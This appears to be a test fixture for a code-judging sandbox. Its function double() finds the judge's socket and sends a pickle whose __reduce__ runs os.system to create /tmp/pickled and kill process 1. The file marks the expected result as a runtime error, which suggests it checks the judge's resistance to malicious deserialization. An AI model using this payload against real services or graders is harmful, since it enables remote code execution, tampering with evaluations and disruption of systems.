"""Answers with a pickle that would run a command in the judge."""
# expects: runtime_error
# contains: no value

import os
import struct
import sys

HEAD = struct.Struct("<QBI")


def here():
    """The request that is being answered, and the descriptor of the socket that it came by."""
    frame = sys._getframe()
    while frame is not None:
        owner = frame.f_locals.get("self")
        channel = getattr(owner, "channel", None)
        if channel is not None:
            return getattr(owner, "_request", None) or frame.f_locals.get("request", 1), channel._socket.fileno()
        frame = frame.f_back
    return 1, 3


def say(kind, body=b"", *, request=None, size=None):
    present, line = here()
    data = HEAD.pack(present if request is None else request, kind, len(body) if size is None else size) + body
    while data:
        data = data[os.write(line, data) :]


import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled; kill -9 1",)


def double(values):
    say(22, pickle.dumps(Run()))
    os._exit(0)


def scale(array, factor):
    return array * factor


class Counter:
    def __init__(self):
        self.total = 0

    def add(self, n):
        self.total += n
        return self.total
